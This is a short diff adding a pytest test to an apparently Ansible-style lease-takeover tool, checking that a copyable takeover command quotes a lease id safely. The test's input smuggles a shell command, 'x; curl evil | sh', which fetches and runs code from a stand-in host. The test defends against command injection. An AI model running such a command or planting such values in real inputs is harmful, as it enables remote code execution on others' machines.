@@ -92,6 +92,12 @@ def test_check_mode_reports_the_lease_of_another_and_how_to_take_it_over() -> No
     assert "-e patch_lease=r2" in result["msg"]
 
 
+def test_a_line_to_copy_holds_no_command_of_the_node() -> None:
+    node = Node(lease=answer(result={"lease": {"id": "x; curl evil | sh", "holder": "ben"}}))
+    result = node.run(lease, {"id": "r1", "takeover": "patch_lease"}, check=True)
+    assert result["msg"].endswith("-e patch_lease='x; curl evil | sh'")
+
+
 @pytest.mark.parametrize(
     "told", [answer(result={"lease": "r1"}), answer(result=["r1"]), answer(status="r1"), answer(exit="x")]
 )
